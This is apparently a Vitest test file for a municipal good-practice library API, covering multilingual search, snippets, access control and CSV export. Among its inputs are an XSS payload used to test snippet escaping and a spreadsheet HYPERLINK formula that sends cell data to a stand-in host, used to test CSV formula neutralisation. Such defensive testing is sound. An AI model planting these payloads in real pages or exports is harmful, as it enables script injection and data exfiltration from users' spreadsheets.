import type { FastifyInstance } from 'fastify'
import { describe, expect } from 'vitest'
import { it } from '../testing/app.ts'
import { bearer, createUser, type TestUser, tokenFor } from '../testing/factories.ts'

// The library: approved practices, searched in full text in each practice's language (stemmed
// where PostgreSQL has a stemmer), word for word in any, and for Serbian across scripts and
// diacritics. Run on PGlite and on PostgreSQL.

interface Seed {
  title: string
  problem?: string
  body?: string
  language: string
  countryCode: string
  municipalityName: string
  area?: string
  public?: boolean
}

let admin: TestUser
let author: TestUser
const ids: Record<string, string> = {}

async function approved(app: FastifyInstance, key: string, seed: Seed, approve = true) {
  const created = await app.inject({
    method: 'POST',
    url: '/api/v1/good-practices',
    headers: bearer(tokenFor(app, author)),
    payload: {
      area: 'services',
      problem: 'A problem of the municipality.',
      actions: 'Actions were taken.',
      results: 'Results came.',
      contactRole: 'Mayor’s office',
      body: '',
      public: true,
      ...seed,
    },
  })
  expect(created.statusCode, created.body).toBe(201)
  const id = created.json().id as string
  if (approve) {
    const review = await app.inject({
      method: 'POST',
      url: `/api/v1/good-practices/${id}/review`,
      headers: bearer(tokenFor(app, admin)),
      payload: { decision: 'approve' },
    })
    expect(review.statusCode, review.body).toBe(200)
  }
  ids[key] = id
}

async function search(app: FastifyInstance, query: string, user?: TestUser) {
  const response = await app.inject({
    url: `/api/v1/library/good-practices?${query}`,
    ...(user ? { headers: bearer(tokenFor(app, user)) } : {}),
  })
  expect(response.statusCode, response.body).toBe(200)
  expect(response.headers['cache-control']).toBe('no-store')
  return response.json() as {
    items: { id: string; rank: number | null; snippet: string; snippetHtml: string }[]
    total: number
  }
}
const found = async (app: FastifyInstance, q: string) =>
  (await search(app, `q=${encodeURIComponent(q)}`)).items.map((item) => item.id)
const keyOf = (id: string) => Object.entries(ids).find(([, value]) => value === id)?.[0]

describe('the good-practice library', () => {
  it.beforeAll(async ({ app }) => {
    admin = await createUser(app, { roles: ['admin'] })
    author = await createUser(app)
    await approved(app, 'cyrillic', {
      title: 'Разноликост у општинској управи',
      problem: 'Запослени нису одражавали разноликост заједнице коју опслужују.',
      body: 'Општина је увела план за запошљавање припадника мањина.',
      language: 'sr-Cyrl',
      countryCode: 'RS',
      municipalityName: 'Крагујевац',
      area: 'workforce',
    })
    await approved(app, 'latin', {
      title: 'Savet za međunacionalne odnose',
      problem: 'Različitost građana nije bila vidljiva u odlukama opštine.',
      language: 'sr-Latn',
      countryCode: 'RS',
      municipalityName: 'Subotica',
      area: 'participation',
    })
    await approved(app, 'plain', {
      title: 'Mesne zajednice',
      problem: 'Razlicitost glasova u mesnim zajednicama, pisano bez dijakritika.',
      language: 'bs',
      countryCode: 'BA',
      municipalityName: 'Tuzla',
      area: 'participation',
    })
    await approved(app, 'english-title', {
      title: 'Interpreters at the municipality front desk',
      problem: 'Residents who speak Romani could not use the services.',
      language: 'en',
      countryCode: 'ME',
      municipalityName: 'Podgorica',
    })
    await approved(app, 'english-body', {
      title: 'A welcome desk for newcomers',
      problem: 'Newcomers did not know where to go.',
      body: 'Later, volunteers worked as an interpreter for families in the town hall.',
      language: 'en',
      countryCode: 'ME',
      municipalityName: 'Bar',
    })
    await approved(app, 'macedonian', {
      title: 'Мултикултурализам во училиштата',
      problem: 'Учениците од различни заедници учеа одделно.',
      language: 'mk',
      countryCode: 'MK',
      municipalityName: 'Куманово',
      area: 'information-communication',
    })
    await approved(app, 'albanian', {
      title: 'Përfshirja e të rinjve në vendimmarrje',
      problem: 'Të rinjtë nuk merrnin pjesë në takimet e komunës.',
      language: 'sq',
      countryCode: 'AL',
      municipalityName: 'Shkodër',
      area: 'participation',
    })
    await approved(app, 'swedish', {
      title: 'Mångfald i kommunen',
      problem: 'Kommunen saknade en plan för mångfald bland de anställda.',
      language: 'sv',
      countryCode: 'SE',
      municipalityName: 'Upplands Väsby',
      area: 'workforce',
    })
    await approved(app, 'members-only', {
      title: 'Raznolikost u savetu, samo za prijavljene',
      language: 'sr-Latn',
      countryCode: 'RS',
      municipalityName: 'Niš',
      public: false,
    })
    await approved(
      app,
      'unapproved',
      {
        title: 'Raznolikost koja još čeka odobrenje',
        language: 'sr-Latn',
        countryCode: 'RS',
        municipalityName: 'Niš',
      },
      false,
    )
  })

  it('finds Serbian across scripts and diacritics', async ({ app }) => {
    expect((await found(app, 'raznolikost')).map(keyOf)).toEqual(['cyrillic'])
    expect((await found(app, 'РАЗНОЛИКОСТ')).map(keyOf)).toEqual(['cyrillic'])
    expect((await found(app, 'različitost')).map(keyOf).sort()).toEqual(['latin', 'plain'])
    expect((await found(app, 'razlicitost')).map(keyOf).sort()).toEqual(['latin', 'plain'])
    expect((await found(app, 'međunacionalne')).map(keyOf)).toEqual(['latin'])
    expect((await found(app, 'medjunacionalne')).map(keyOf)).toEqual(['latin'])
    expect((await found(app, 'ОПШТИНСКОЈ')).map(keyOf)).toEqual(['cyrillic'])
  })

  it("stems in the practice's language and ranks a title match above a body match", async ({
    app,
  }) => {
    // English: only "municipality" is written; Swedish: only "kommunen".
    expect((await found(app, 'municipalities')).map(keyOf)).toEqual(['english-title'])
    expect((await found(app, 'kommunerna')).map(keyOf)).toEqual(['swedish'])
    expect((await found(app, 'mångfalden')).map(keyOf)).toEqual(['swedish'])
    const ranked = (await search(app, 'q=interpreters')).items
    expect(ranked.map((item) => keyOf(item.id))).toEqual(['english-title', 'english-body'])
    expect(ranked[0]!.rank!).toBeGreaterThan(ranked[1]!.rank!)
    // Macedonian and Albanian have no stemmer: word for word, Macedonian across scripts too.
    expect((await found(app, 'multikulturalizam')).map(keyOf)).toEqual(['macedonian'])
    expect((await found(app, 'Мултикултурализам')).map(keyOf)).toEqual(['macedonian'])
    expect((await found(app, 'perfshirja')).map(keyOf)).toEqual(['albanian'])
    expect((await found(app, 'Përfshirja')).map(keyOf)).toEqual(['albanian'])
  })

  it('gives each match a short snippet in the words as written, marks escaped and nothing else', async ({
    app,
  }) => {
    const [cyrillic] = (await search(app, 'q=raznolikost')).items
    expect(cyrillic!.snippet).toContain('разноликост')
    expect(cyrillic!.snippetHtml).toContain('<mark>разноликост</mark>')
    const [latin] = (await search(app, 'q=razlicitost&language=sr-Latn')).items
    expect(latin!.snippetHtml).toContain('<mark>Različitost</mark>')
    await approved(app, 'hostile', {
      title: 'Markup in the text',
      problem: 'A <script>alert("tolerance")</script> & <b onmouseover=x>tolerance</b> test.',
      language: 'en',
      countryCode: 'ME',
      municipalityName: 'Kotor',
    })
    const [hostile] = (await search(app, 'q=tolerance')).items
    expect(hostile!.snippetHtml).not.toMatch(/<(?!\/?mark>)/)
    expect(hostile!.snippetHtml).toContain('&lt;/script&gt;')
    expect(hostile!.snippetHtml).toContain('<mark>tolerance</mark>')
    expect(hostile!.snippet).toContain('alert("tolerance")</script>')
    expect(hostile!.snippet).toMatch(/^… /)
    // Without a query: no rank, the start of the problem.
    const [first] = (await search(app, 'country=SE')).items
    expect(first).toMatchObject({
      rank: null,
      snippet: expect.stringContaining('Kommunen saknade'),
    })
  })

  it('filters by country, area and language, pages with a limit of at most 100, and shows members-only practices to the signed-in', async ({
    app,
  }) => {
    const keys = async (query: string, user?: TestUser) =>
      (await search(app, query, user)).items.map((item) => keyOf(item.id)).sort()
    expect(await keys('country=RS')).toEqual(['cyrillic', 'latin'])
    expect(await keys('country=RS', author)).toEqual(['cyrillic', 'latin', 'members-only'])
    expect(await keys('area=workforce')).toEqual(['cyrillic', 'swedish'])
    expect(await keys('language=sq')).toEqual(['albanian'])
    expect(await keys('q=raznolikost', await createUser(app))).toEqual(['cyrillic', 'members-only'])
    const page = await search(app, 'limit=2&offset=1')
    expect(page).toMatchObject({ limit: 2, offset: 1, total: 9 })
    expect(page.items).toHaveLength(2)
    const beyond = await search(app, 'limit=2&offset=50')
    expect(beyond).toMatchObject({ items: [], total: 9 })
    for (const bad of ['limit=101', 'area=sports', 'language=xx', 'country=serbia', 'q=%00']) {
      const refused = await app.inject({ url: `/api/v1/library/good-practices?${bad}` })
      expect(refused.statusCode, bad).toBe(400)
    }
    // Only approved practices, and anonymous readers only public ones, by their stable URL.
    const url = (key: string) => `/api/v1/good-practices/${ids[key]}`
    const publicOne = await app.inject({ url: url('cyrillic') })
    expect(publicOne.statusCode).toBe(200)
    expect(publicOne.headers['cache-control']).toBe('no-store')
    expect(publicOne.json()).toMatchObject({ author: null, enrolmentId: null, reviewComment: null })
    expect((await app.inject({ url: url('members-only') })).statusCode).toBe(404)
    expect((await app.inject({ url: url('unapproved') })).statusCode).toBe(404)
    expect(
      (await app.inject({ url: url('members-only'), headers: bearer(tokenFor(app, admin)) }))
        .statusCode,
    ).toBe(200)
  })

  it('exports the same selection as CSV, formulas neutralised, public practices only for anonymous callers', async ({
    app,
  }) => {
    await approved(app, 'formula', {
      title: '=HYPERLINK("https://evil.example/?"&A1,"x")',
      language: 'en',
      countryCode: 'RS',
      municipalityName: 'Novi Sad',
    })
    const anonymous = await app.inject({
      url: '/api/v1/library/good-practices/export.csv?country=RS',
    })
    expect(anonymous.statusCode).toBe(200)
    expect(anonymous.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(anonymous.headers['content-disposition']).toBe(
      'attachment; filename="good-practices.csv"',
    )
    expect(anonymous.headers['cache-control']).toBe('no-store')
    const csv = anonymous.body
    expect(csv).toContain('Разноликост у општинској управи')
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`)
    expect(csv).not.toContain('samo za prijavljene')
    expect(csv).not.toContain('još čeka')
    expect(csv).toContain(`/practices/${ids.cyrillic}`)
    const signedIn = await app.inject({
      url: '/api/v1/library/good-practices/export.csv?country=RS&lang=sr-Latn&q=raznolikost',
      headers: bearer(tokenFor(app, author)),
    })
    expect(signedIn.body.split('\r\n')[0]).toContain('Naslov')
    expect(signedIn.body).toContain('samo za prijavljene')
    expect(signedIn.body).not.toContain('Savet za međunacionalne odnose')
    expect(
      (await app.inject({ url: '/api/v1/library/good-practices/export.csv?limit=5' })).statusCode,
    ).toBe(400)
  })
})
